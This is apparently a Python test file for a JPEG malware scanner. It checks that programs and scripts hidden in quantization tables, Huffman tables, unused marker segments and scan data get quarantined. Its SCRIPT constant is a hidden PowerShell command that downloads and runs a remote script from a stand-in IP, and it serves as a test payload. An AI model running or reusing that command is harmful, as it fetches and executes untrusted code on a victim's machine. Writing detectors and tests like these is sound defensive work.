"""JPEG table values judged as data (agent/inspect/jpeg/tables.py `table_values`), the
content of segments no picture needs (JPGn, DAC, DHP, EXP, reserved: judged like an unknown
APPn) and the script window that starts at the scan data (agent/inspect/stray_code.py).

Offsets come from T.81: a DQT table is Pq/Tq then 64 values of 1 byte (Pq 0) or 2 bytes
(Pq 1) (B.2.4.1); a DHT table is Tc/Th, 16 code-length counts, then one value per code
(B.2.4.2); an SOS segment is FFDA, a 2-byte length Ls counting itself, then its header,
after which the entropy-coded data starts (B.2.3).
"""

from __future__ import annotations

import base64
import io
import random

import pytest
from PIL import Image

from agent.inspect.engine import inspect_bytes
from agent.inspect.jpeg.segments import walk_segments
from agent.inspect.jpeg.tables import DHT, DQT, table_values
from agent.inspect.reader import Reader
from tests import classify_samples as cs
from tests import jpeg_samples as js

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"  # 63 bytes
STANDARD_DC_COUNTS = bytes([0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0])  # T.81 K.3.3.1


def _insert_before_sos(jpeg: bytes, segment: bytes) -> bytes:
    at = jpeg.find(b"\xff\xda")
    return jpeg[:at] + segment + jpeg[at:]


def _with_first_dqt_values(jpeg: bytes, values: bytes) -> bytes:
    """The JPEG with its first 8-bit quantization table's 64 values replaced."""
    assert len(values) == 64 and 0 not in values
    at = jpeg.find(b"\xff\xdb")
    assert jpeg[at + 4] >> 4 == 0  # Pq 0: 64 one-byte values follow Pq/Tq
    return jpeg[: at + 5] + values + jpeg[at + 5 + 64 :]


def _codes(report: object) -> dict[str, str]:
    return {f.code: f.message for f in report.findings}  # type: ignore[attr-defined]


# --- which values are data ----------------------------------------------------------


def test_every_quantization_table_value_range_is_handed_out() -> None:
    body = b"\x00" + bytes(range(1, 65)) + b"\x11" + bytes(range(1, 129))
    assert table_values(DQT, body) == [(1, 65), (66, 194)]


def test_a_quantization_table_cut_short_is_handed_out_to_the_end() -> None:
    assert table_values(DQT, b"\x00" + bytes(range(1, 31))) == [(1, 31)]


def test_bytes_after_a_non_table_are_not_values() -> None:
    """Pq 2 is no table (B.2.4.1): what follows is slack, judged as stray bytes instead."""
    assert table_values(DQT, b"\x00" + bytes(64) + b"\x20" + bytes(64)) == [(1, 65)]


def test_a_huffman_table_of_distinct_symbols_is_explained() -> None:
    body = b"\x00" + STANDARD_DC_COUNTS + bytes(range(12))
    assert table_values(DHT, body) == []


def test_a_huffman_table_that_repeats_a_symbol_hands_out_its_values() -> None:
    counts = bytes(15) + bytes([len(SCRIPT)])  # every code 16 bits long
    body = b"\x13" + counts + SCRIPT + b"\x00" + STANDARD_DC_COUNTS + bytes(range(12))
    assert table_values(DHT, body) == [(17, 17 + len(SCRIPT))]


def test_other_segments_have_no_table_values() -> None:
    assert table_values(0xC0, b"\x08\x00\x10\x00\x10\x01\x01\x11\x00") == []


# --- the engine judges them -----------------------------------------------------------


def test_a_script_written_as_quantization_values_is_quarantined() -> None:
    jpeg = _with_first_dqt_values(js.photo(seed=21), SCRIPT.ljust(64, b" "))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_metadata" in _codes(report)


def test_base64_of_a_program_split_over_two_quantization_tables_is_quarantined() -> None:
    """Each table alone holds part of the run; the walker's adjacent table regions are
    joined the way a loader would read them back."""
    encoded = base64.b64encode(cs.real_pe())[:256]  # 192 bytes: past the PE header
    jpeg = js.photo(seed=22)
    at = jpeg.find(b"\xff\xdb")
    tables = b"\x12" + encoded[:128] + b"\x13" + encoded[128:]  # two 16-bit tables
    jpeg = jpeg[:at] + js.segment(DQT, tables) + jpeg[at:]
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"


def test_a_script_in_a_huffman_table_that_repeats_symbols_is_quarantined() -> None:
    counts = bytes(15) + bytes([len(SCRIPT)])
    jpeg = _insert_before_sos(js.photo(seed=23), js.segment(DHT, b"\x13" + counts + SCRIPT))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_metadata" in _codes(report)


def test_ordinary_quantization_tables_at_every_quality_are_clean() -> None:
    image = Image.open(io.BytesIO(js.photo(seed=27)))
    for quality in (1, 5, 12, 25, 50, 75, 95, 100):
        out = io.BytesIO()
        image.save(out, "JPEG", quality=quality)
        report = inspect_bytes("photo.jpg", out.getvalue())
        assert report.verdict.value == "clean", (quality, _codes(report))


def test_walker_lists_quantization_values_and_not_distinct_huffman_tables() -> None:
    jpeg = js.photo(seed=24)
    walk = walk_segments(Reader.from_bytes(jpeg), 0)
    labels = [region.label for region in walk.metadata]
    dqt_tables = jpeg.count(b"\xff\xdb")  # Pillow writes one table per DQT segment
    assert labels.count("JPEG quantization table") == dqt_tables >= 1
    assert not any("Huffman" in label for label in labels)


# --- the script window starts at the scan data -------------------------------------------


def test_scan_data_starts_after_the_first_sos_header() -> None:
    jpeg = js.photo(seed=25)
    sos = jpeg.find(b"\xff\xda")
    header_length = int.from_bytes(jpeg[sos + 2 : sos + 4], "big")  # Ls counts itself
    walk = walk_segments(Reader.from_bytes(jpeg), 0)
    assert walk.scan_data_start == sos + 2 + header_length


def test_a_script_in_a_thumbnails_scan_data_before_eoi_is_still_found() -> None:
    jpeg = js.photo(seed=26)
    eoi = len(jpeg) - 2
    report = inspect_bytes("thumb.jpg", jpeg[:eoi] + SCRIPT + jpeg[eoi:])
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_image_data" in _codes(report)


# --- segments no picture needs ---------------------------------------------------------

# JPG0 and JPG13 extensions, DAC (arithmetic conditioning), DHP, EXP, JPG, a reserved code
UNREAD_MARKERS = (0xF0, 0xFD, 0xCC, 0xDE, 0xDF, 0xC8, 0x50)


@pytest.fixture(scope="module")
def big_photo() -> bytes:
    """A JPEG of more than 1 MiB: its headers lie outside the tail searched before EOI."""
    rng = random.Random(31)
    out = io.BytesIO()
    Image.frombytes("RGB", (1200, 900), rng.randbytes(1200 * 900 * 3)).save(out, "JPEG", quality=95)
    assert len(out.getvalue()) > 1024 * 1024
    return out.getvalue()


@pytest.mark.parametrize("marker", UNREAD_MARKERS, ids=lambda m: f"FF{m:02X}")
@pytest.mark.parametrize("kind", ["program", "base64 program", "script"])
def test_a_payload_in_a_segment_no_picture_needs_is_quarantined(
    big_photo: bytes, marker: int, kind: str
) -> None:
    payload = {
        "program": cs.real_pe(),
        "base64 program": base64.b64encode(cs.real_pe()),
        "script": SCRIPT,
    }[kind]
    jpeg = _insert_before_sos(big_photo, js.segment(marker, payload))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_metadata" in _codes(report)


@pytest.mark.parametrize("marker", UNREAD_MARKERS, ids=lambda m: f"FF{m:02X}")
def test_harmless_bytes_in_a_segment_no_picture_needs_stay_clean(marker: int) -> None:
    jpeg = _insert_before_sos(js.photo(seed=32), js.segment(marker, bytes(range(256))))
    assert inspect_bytes("photo.jpg", jpeg).verdict.value == "clean"


def test_a_program_after_a_dnl_segments_line_count_is_quarantined(big_photo: bytes) -> None:
    """DNL holds exactly Ld and NL (B.2.5); bytes its length covers past NL are slack."""
    jpeg = _insert_before_sos(big_photo, js.segment(0xDC, b"\x03\x84" + cs.real_pe()))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.unexplained_data" in _codes(report)


# --- issue 15: only real tables' values are handed out (T.81 B.2.4.1, B.2.4.2) -------------------


def test_quantization_values_stop_at_destination_four() -> None:
    assert table_values(DQT, b"\x00" + bytes(64) + b"\x04" + bytes(64)) == [(1, 65)]


@pytest.mark.parametrize("tc_th", [0x20, 0x04], ids=["class 2", "destination 4"])
def test_no_values_from_a_huffman_header_out_of_range(tc_th: int) -> None:
    assert table_values(DHT, bytes([tc_th]) + bytes([2] + [0] * 15) + b"aa") == []


def test_huffman_counts_include_the_first_and_go_up_to_256() -> None:
    two = b"\x00" + bytes([2] + [0] * 15) + b"aa"  # two 1-bit codes, the same symbol
    assert table_values(DHT, two) == [(17, 19)]
    full = b"\x00" + bytes([16] * 16) + bytes(255) + b"\x01"  # 256 codes, zero repeated
    assert table_values(DHT, full) == [(17, 273)]
